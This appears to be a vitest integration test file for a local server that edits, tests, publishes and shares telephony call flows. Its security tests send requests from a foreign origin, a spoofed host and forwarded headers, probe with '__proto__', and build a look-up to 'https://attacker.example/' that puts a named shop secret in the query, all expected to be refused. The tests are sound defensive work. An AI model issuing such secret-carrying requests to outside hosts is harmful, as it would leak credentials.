import { request } from 'node:http';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { FlowBundle } from '#lib/rehearsal/flow-bundle.ts';
import { ScenarioRun, StoredScenario, StoredScenarios } from '#lib/scenarios/scenario-api.ts';
import { MadeTrial, TrialLinks } from '#lib/trials/trial-api.ts';
import { namedSecretToken } from '#runtime/contract/named-secret.ts';
import { startServer, type TestServer } from '#tests/support/server.ts';

let server: TestServer;

beforeAll(async () => {
  server = await startServer();
});
afterAll(() => server.close());

type Reply = { status: number; body: string };

/** As a browser on this computer sends it; `headers` go over its own. */
async function ask(
  path: string,
  { body, headers = {} }: { body?: unknown; headers?: Record<string, string> } = {},
): Promise<Reply> {
  const own = { origin: server.origin(), 'content-type': 'application/json' };
  const sent = request(`${server.origin()}${path}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers: { ...(body === undefined ? {} : own), ...headers },
  });
  const replied = new Promise<Reply>((resolve, reject) => {
    sent.on('error', reject);
    sent.on('response', (response) => {
      text(response).then((read) => resolve({ status: response.statusCode ?? 0, body: read }), reject);
    });
  });
  sent.end(body === undefined ? undefined : JSON.stringify(body));
  return await replied;
}

const json = async (path: string, body?: unknown): Promise<unknown> => {
  const reply = await ask(path, body === undefined ? {} : { body });
  expect(reply.status, reply.body).toBe(200);
  return JSON.parse(reply.body);
};

const clinic = '/api/flows/clinic-front-desk';

test('the samples’ scenarios are there, and green on both providers', async () => {
  const { scenarios } = StoredScenarios.parse(await json(`${clinic}/scenarios`));
  expect(scenarios.length).toBeGreaterThan(10);
  const run = ScenarioRun.parse(await json(`${clinic}/scenarios/run`, { scenarios: [scenarios[0]?.id] }));
  expect(run).toMatchObject({ ok: true, results: [{ provider: 'twilio' }, { provider: 'plivo' }] });
});

test('a scenario is kept, changed, ordered and removed', async () => {
  const base = '/api/flows/conference-line/scenarios';
  const scenario = { name: 'A new one', steps: [{ hears: 'Welcome' }] };
  const added = StoredScenarios.parse(await json(base, { scenarios: [scenario] })).scenarios[0];
  const changed = { ...scenario, name: 'Renamed' };
  const saved = StoredScenario.parse(
    await json(`${base}/${added?.id}`, { scenario: changed, revision: added?.revision }),
  );
  expect(saved).toMatchObject({ revision: 2, scenario: { name: 'Renamed' } });
  const stale = await ask(`${base}/${added?.id}`, { body: { scenario, revision: 1 } });
  expect(stale.status).toBe(409);
  const ids = StoredScenarios.parse(await json(base)).scenarios.map(({ id }) => id);
  const ordered = StoredScenarios.parse(await json(`${base}/order`, { ids: ids.toReversed() }));
  expect(ordered.scenarios[0]?.scenario.name).toBe('Renamed');
  await json(`${base}/${added?.id}/remove`, {});
  expect(StoredScenarios.parse(await json(base)).scenarios).toHaveLength(ids.length - 1);
});

test('a red scenario blocks publishing; a reason publishes, and is shown with the version', async () => {
  const base = '/api/flows/caller-survey';
  await json(`${base}/rename`, { name: 'Survey of callers' });
  await json(`${base}/scenarios`, { scenarios: [{ name: 'Asks for a song', steps: [{ hears: 'a song' }] }] });
  const blocked = await ask(`${base}/publish`, { body: { note: 'New name' } });
  expect(blocked.status).toBe(422);
  expect(JSON.parse(blocked.body)).toMatchObject({
    code: 'scenarios-failed',
    message: expect.stringContaining('“Asks for a song” on twilio, step 1: '),
    results: [
      { scenario: 'Asks for a song', provider: 'twilio', steps: [{ ok: false }] },
      { provider: 'plivo' },
    ],
  });
  const override = 'The song comes tomorrow';
  expect(await json(`${base}/publish`, { note: 'New name', override })).toEqual({
    version: 2,
    unchanged: false,
  });
  expect(await json(`${base}/versions`)).toMatchObject({
    versions: [{ number: 2, override: { reason: override, red: [{}, {}] } }, { override: null }],
  });
  expect(await json(`${base}/versions/1/scenarios`)).toMatchObject({ scenarios: expect.any(Array) });
});

test('nobody else’s page, host or tunnel comes to any of it', async () => {
  const body = { scenarios: [{ name: 'Evil', steps: [] }] };
  const elsewhere = [
    { origin: 'https://evil.example' },
    { origin: server.origin(), host: 'evil.example' },
    { origin: server.origin(), 'x-forwarded-for': '203.0.113.1' },
  ];
  const look = { need: { id: 'n', kind: 'http-request', request: {}, seconds: 1 } };
  const doors = [
    [`${clinic}/scenarios`, body],
    [`${clinic}/look-up`, look],
    [`${clinic}/trials`, {}],
    [`${clinic}/publish`, { note: '', override: 'x' }],
  ] as const;
  for (const headers of elsewhere)
    for (const [path, sent] of doors)
      expect((await ask(path, { body: sent, headers })).status, path).toBe(403);
  const rebound = { headers: { host: 'evil.example' } };
  expect((await ask(`${clinic}/bundle`, rebound)).status).toBe(403);
});

test('a trial link shows its flow until it is revoked, and nothing else', async () => {
  const { link, path } = MadeTrial.parse(await json(`${clinic}/trials`, { label: 'For Ben' }));
  const page = await ask(path);
  expect(page.status).toBe(200);
  expect(page.body).toContain('Clinic front desk');
  expect(page.body).not.toContain('On-call rota');
  expect((await ask(path, { headers: { 'x-forwarded-host': 'tunnel.example' } })).status).toBe(403);
  await json(`${clinic}/trials/${link.id}/revoke`, {});
  const gone = await ask(path);
  expect(gone.body).not.toContain('Clinic front desk');
  const { links } = TrialLinks.parse(await json(`${clinic}/trials`));
  expect(links).toMatchObject([{ id: link.id, state: 'revoked', label: 'For Ben' }]);
});

test('a bundle plays the flow, and a look-up gives no secret away', async () => {
  const bundle = FlowBundle.parse(await json('/api/flows/shop-order-lookup/bundle?of=published'));
  expect(bundle).toMatchObject({ number: 1, providers: ['twilio', 'plivo'] });
  expect((await ask('/api/flows/shop-order-lookup/bundle?of=99')).status).toBe(404);
  expect((await ask('/api/flows/shop-order-lookup/bundle?of=__proto__')).status).toBe(404);
  const need = {
    id: 'n1',
    kind: 'http-request',
    seconds: 5,
    request: {
      method: 'GET',
      url: 'https://attacker.example/',
      query: [['key', namedSecretToken('SHOP_KEY')]],
      headers: {},
      body: { kind: 'none' },
      timeoutSeconds: 5,
      retries: 0,
      repeatable: true,
      parts: [],
    },
  };
  expect(await json('/api/flows/shop-order-lookup/look-up', { need })).toEqual({
    result: { ok: false, error: 'unknown-secret' },
  });
});
